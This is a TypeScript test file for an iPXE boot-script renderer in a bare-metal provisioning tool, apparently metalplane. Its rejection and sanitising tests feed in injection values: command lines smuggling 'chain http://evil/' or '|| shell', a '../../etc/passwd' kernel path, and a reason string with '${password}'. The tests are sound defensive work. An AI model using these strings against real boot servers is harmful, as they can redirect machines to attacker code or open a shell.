import { describe, expect, it } from 'vitest';
import type { BootArch, DirectBootPlan } from '@metalplane/core';
import { printable, renderIpxeScript, resolveBootUrl, UnsafeBootPlanError, type IpxeScriptContext } from './ipxe-script.js';

const base = 'http://10.0.0.1:8080';
const sha = 'ab'.repeat(32);
const context = (arch: BootArch, extra: Partial<IpxeScriptContext> = {}): IpxeScriptContext => ({
  baseUrl: base,
  arch,
  selfUrl: `${base}/boot/ipxe?mac=52:54:00:12:34:56&arch=${arch}`,
  ...extra,
});

const registration: DirectBootPlan = {
  kind: 'registration',
  kernel: 'registration/vmlinuz',
  initrd: ['registration/initrd.img'],
  cmdline: 'console=tty0 console=ttyS0,115200',
  reason: 'unknown machine (MAC 52:54:00:12:34:56): serving the registration image',
};

describe('renderIpxeScript: registration and kernel', () => {
  it('writes the whole UEFI script: named initrds, initrd= first on the command line, bounded retries, reboot', () => {
    expect(renderIpxeScript(registration, context('uefi-x64'))).toBe(
      [
        '#!ipxe',
        '# metalplane: registration (uefi-x64)',
        'echo metalplane: unknown machine (MAC 52:54:00:12:34:56): serving the registration image',
        'clear mp_attempt',
        ':mp_attempt',
        'inc mp_attempt',
        'imgfree',
        `kernel ${base}/boot/registration/vmlinuz initrd=initrd0 console=tty0 console=ttyS0,115200 || goto mp_failed`,
        `initrd --name initrd0 ${base}/boot/registration/initrd.img || goto mp_failed`,
        'boot || goto mp_failed',
        ':mp_failed',
        'echo metalplane: attempt ${mp_attempt} of 3 failed (the reason is printed above)',
        'iseq ${mp_attempt} 3 && goto mp_give_up ||',
        'echo metalplane: trying again in 10 seconds',
        'sleep 10',
        'goto mp_attempt',
        ':mp_give_up',
        'echo metalplane: giving up after 3 attempts; rebooting in 10 seconds',
        'sleep 10',
        'reboot',
        '',
      ].join('\n'),
    );
  });

  it('leaves initrd= off on BIOS, where iPXE loads the initrds for the kernel', () => {
    const script = renderIpxeScript(registration, context('bios'));
    expect(script).toContain(`kernel ${base}/boot/registration/vmlinuz console=tty0 console=ttyS0,115200 || goto mp_failed\n`);
    expect(script).toContain(`initrd --name initrd0 ${base}/boot/registration/initrd.img || goto mp_failed\n`);
    expect(script).not.toContain('initrd=');
  });

  it.each(['uefi-x64', 'uefi-arm64', 'uefi-http', 'rpi', 'unknown'] as const)('names every initrd on the command line for %s', (arch) => {
    const plan: DirectBootPlan = {
      kind: 'kernel',
      kernel: `artifact:${sha}`,
      initrd: [`artifact:${'cd'.repeat(32)}`, 'https://factory.talos.dev/image/x/v1.10.0/initramfs-amd64.xz'],
      cmdline: 'talos.platform=metal',
      reason: 'intent i1 (once) selects profile p',
    };
    const script = renderIpxeScript(plan, context(arch));
    expect(script).toContain(`kernel ${base}/boot/artifacts/${sha} initrd=initrd0 initrd=initrd1 talos.platform=metal || goto mp_failed\n`);
    expect(script).toContain(`initrd --name initrd0 ${base}/boot/artifacts/${'cd'.repeat(32)} || goto mp_failed\n`);
    expect(script).toContain('initrd --name initrd1 https://factory.talos.dev/image/x/v1.10.0/initramfs-amd64.xz || goto mp_failed\n');
  });

  it('replaces initrd= the plan brought (they name files this script does not load)', () => {
    const plan: DirectBootPlan = { kind: 'kernel', kernel: 'k', initrd: ['i'], cmdline: 'init=/nix/store/x/init initrd=initrd loglevel=4', reason: 'r' };
    expect(renderIpxeScript(plan, context('uefi-x64'))).toContain(`kernel ${base}/boot/k initrd=initrd0 init=/nix/store/x/init loglevel=4 ||`);
    expect(renderIpxeScript(plan, context('bios'))).toContain(`kernel ${base}/boot/k init=/nix/store/x/init loglevel=4 ||`);
  });

  it('boots a kernel without initrds or command line', () => {
    const plan: DirectBootPlan = { kind: 'kernel', kernel: 'https://example.test/vmlinuz', initrd: [], cmdline: '', reason: 'r' };
    const script = renderIpxeScript(plan, context('uefi-x64'));
    expect(script).toContain('kernel https://example.test/vmlinuz || goto mp_failed\n');
    expect(script).not.toContain('initrd');
  });

  it('bounds attempts and delays', () => {
    const script = renderIpxeScript(registration, context('bios', { attempts: 1000, retryDelaySeconds: 0 }));
    expect(script).toContain('iseq ${mp_attempt} 10 && goto mp_give_up ||\n');
    expect(script).toContain('sleep 1\n');
  });

  it('leaves ${setting} to iPXE (Talos config URLs use iPXE values)', () => {
    const plan: DirectBootPlan = { kind: 'kernel', kernel: 'k', initrd: [], cmdline: 'talos.config=http://c/${uuid}?m=${netX/mac:hexhyp}', reason: 'r' };
    expect(renderIpxeScript(plan, context('bios'))).toContain('kernel http://10.0.0.1:8080/boot/k talos.config=http://c/${uuid}?m=${netX/mac:hexhyp} ||');
  });
});

describe('renderIpxeScript: refuses what would change the script', () => {
  const kernel = (over: Partial<{ kernel: string; initrd: string[]; cmdline: string }>): DirectBootPlan => ({
    kind: 'kernel',
    kernel: 'k',
    initrd: [],
    cmdline: '',
    reason: 'r',
    ...over,
  });

  it.each([
    ['a newline', 'console=ttyS0\nshell', 'cmdline'],
    ['a carriage return', 'quiet\r\nchain http://evil/', 'cmdline'],
    ['a tab', 'quiet\tx', 'cmdline'],
    ['||', 'quiet || shell', 'cmdline'],
    ['&&', 'quiet && shell', 'cmdline'],
    [';', 'quiet ; shell', 'cmdline'],
    ['a comment', 'quiet #rest', 'cmdline'],
    ['a malformed ${', 'quiet x=${ a}', 'cmdline'],
    ['an unclosed ${', 'quiet x=${uuid', 'cmdline'],
  ])('a command line with %s', (_what, cmdline, field) => {
    expect(() => renderIpxeScript(kernel({ cmdline }), context('bios'))).toThrow(UnsafeBootPlanError);
    try {
      renderIpxeScript(kernel({ cmdline }), context('bios'));
    } catch (error) {
      expect((error as UnsafeBootPlanError).details).toMatchObject({ field });
    }
  });

  it.each([
    ['kernel', { kernel: 'http://x/vmlinuz\nshell' }],
    ['kernel', { kernel: 'tftp://10.0.0.1/vmlinuz' }],
    ['kernel', { kernel: 'artifact:1234' }],
    ['kernel', { kernel: '../../etc/passwd' }],
    ['kernel', { kernel: '/api/v1/machines' }],
    ['initrd[1]', { initrd: ['a', 'http://x/a b'] }],
    ['initrd[0]', { initrd: ['#x'] }],
  ])('a file reference in %s', (field, over) => {
    let caught: unknown;
    try {
      renderIpxeScript(kernel(over), context('uefi-x64'));
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(UnsafeBootPlanError);
    expect((caught as UnsafeBootPlanError).details).toMatchObject({ field });
  });
});

describe('resolveBootUrl', () => {
  it('resolves relative paths under /boot/, artifacts by sha256 and keeps http(s) URLs', () => {
    expect(resolveBootUrl('registration/vmlinuz', base, 'kernel')).toBe(`${base}/boot/registration/vmlinuz`);
    expect(resolveBootUrl('a/./b', `${base}/`, 'kernel')).toBe(`${base}/boot/a/b`);
    expect(resolveBootUrl(`artifact:${sha.toUpperCase()}`, base, 'kernel')).toBe(`${base}/boot/artifacts/${sha}`);
    expect(resolveBootUrl('HTTPS://mirror.test/x', base, 'kernel')).toBe('HTTPS://mirror.test/x');
  });
});

describe('renderIpxeScript: script, localboot, hold', () => {
  it('adds #!ipxe to a profile script that lacks it, and keeps one that has it', () => {
    expect(renderIpxeScript({ kind: 'script', script: 'chain http://x/menu.ipxe', reason: 'r' }, context('bios'))).toBe('#!ipxe\nchain http://x/menu.ipxe\n');
    expect(renderIpxeScript({ kind: 'script', script: '\r\n#!ipxe\r\necho hi\r\n', reason: 'r' }, context('bios'))).toBe('#!ipxe\necho hi\n');
    expect(renderIpxeScript({ kind: 'script', script: '#!ipxe-ish\necho', reason: 'r' }, context('bios'))).toBe('#!ipxe\n#!ipxe-ish\necho\n');
  });

  it('exits with a failure status, so a UEFI boot manager goes on to the next boot option', () => {
    expect(renderIpxeScript({ kind: 'localboot', method: 'exit', reason: 'no boot intent: booting from disk' }, context('uefi-x64'))).toBe(
      [
        '#!ipxe',
        '# metalplane: localboot (exit)',
        'echo metalplane: no boot intent: booting from disk',
        'echo metalplane: returning to the firmware for the next boot device',
        'exit 1',
        '',
      ].join('\n'),
    );
  });

  it.each(['bios', 'uefi-x64'] as const)('sanboots the first disk on %s and exits when that fails', (arch) => {
    expect(renderIpxeScript({ kind: 'localboot', method: 'sanboot', reason: 'r' }, context(arch))).toBe(
      [
        '#!ipxe',
        '# metalplane: localboot (sanboot)',
        'echo metalplane: r',
        'echo metalplane: booting the first local disk',
        'sanboot --no-describe --drive 0x80 ||',
        'echo metalplane: sanboot failed (the reason is printed above)',
        'echo metalplane: returning to the firmware for the next boot device',
        'exit 1',
        '',
      ].join('\n'),
    );
  });

  it('renders http-404 like exit for callers that cannot answer 404', () => {
    expect(renderIpxeScript({ kind: 'localboot', method: 'http-404', reason: 'r' }, context('bios'))).toContain('\nexit 1\n');
  });

  it('holds: prints the reason, waits, asks again at its own URL', () => {
    expect(renderIpxeScript({ kind: 'hold', reason: 'netbooted 5 times without progress; re-arm to retry' }, context('bios', { holdIntervalSeconds: 30 }))).toBe(
      [
        '#!ipxe',
        '# metalplane: hold',
        ':mp_hold',
        'echo metalplane: this machine is on hold: netbooted 5 times without progress; re-arm to retry',
        'prompt --key 0x02 --timeout 30000 metalplane: asking again in 30 seconds; Ctrl-B for the iPXE shell && shell ||',
        'echo',
        `chain --replace --autofree ${base}/boot/ipxe?mac=52:54:00:12:34:56&arch=bios ||`,
        'goto mp_hold',
        '',
      ].join('\n'),
    );
  });

  it('makes printed reasons harmless instead of refusing them', () => {
    const script = renderIpxeScript({ kind: 'hold', reason: 'bad\nchain http://evil/ || shell ; #x ${password}' }, context('bios'));
    expect(script.split('\n')[3]).toBe('echo metalplane: this machine is on hold: bad chain http://evil/ (||) shell (;) (#x) $ {password}');
    expect(printable('x'.repeat(400))).toHaveLength(300);
  });
});
